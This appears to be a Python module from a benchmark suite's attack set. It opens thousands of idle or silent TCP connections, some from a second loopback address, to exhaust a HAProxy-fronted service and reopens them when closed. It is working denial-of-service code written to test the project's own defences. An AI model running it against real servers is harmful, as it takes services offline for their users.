"""Thousands of connections that are idle after a request, or never send one: an attack of
`python -m benchmarks.attacks`.

Those that send nothing come from another address than the probe: to HAProxy, programs with one address are one client.
"""

import asyncio
import sys
from typing import cast
from urllib.parse import urlsplit

IDLE, SILENT = 8_200, 8_200
"""Connections of each kind."""
OTHER_ADDRESS = ("127.0.0.2", 0)
RETRY = 10.0
"""Seconds until a closed connection is opened again."""
AT_ONCE = 32
"""Connections that are being opened at the same time."""


class _Connection(asyncio.Protocol):
    """One connection. opened: set when it is idle, or closed. closed: when it was closed."""

    def __init__(self, request: bytes) -> None:
        self._request = request
        loop = asyncio.get_running_loop()
        self.opened: asyncio.Future[None] = loop.create_future()
        self.closed: asyncio.Future[None] = loop.create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        if self._request:
            cast(asyncio.Transport, transport).write(self._request)
        else:
            self.opened.set_result(None)

    def data_received(self, _: bytes) -> None:
        if not self.opened.done():
            self.opened.set_result(None)

    def connection_lost(self, _: Exception | None) -> None:
        for event in (self.opened, self.closed):
            if not event.done():
                event.set_result(None)


async def attack(url: str, token: str) -> None:
    """Hold the connections, and open those again that were closed."""
    parts = urlsplit(url)
    key = f"X-Api-Key: {token}\r\n" if token else ""
    request = f"GET /v1/health/live HTTP/1.1\r\nHost: {parts.netloc}\r\n{key}\r\n".encode()
    turns, loop = asyncio.Semaphore(AT_ONCE), asyncio.get_running_loop()
    tried, started = 0, asyncio.Event()

    async def hold(sent: bytes) -> None:
        nonlocal tried
        while True:
            async with turns:
                try:
                    address = None if sent else OTHER_ADDRESS
                    _, connection = await loop.create_connection(
                        lambda: _Connection(sent), parts.hostname, parts.port, local_addr=address
                    )
                    await connection.opened
                except OSError:
                    connection = None
                tried += 1
                if tried == IDLE + SILENT:
                    started.set()
            if connection is not None:
                await connection.closed
            await asyncio.sleep(RETRY)

    async with asyncio.TaskGroup() as group:
        for _ in range(IDLE):
            group.create_task(hold(request))
        for _ in range(SILENT):
            group.create_task(hold(b""))
        await started.wait()
        print("started", flush=True)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[3]))
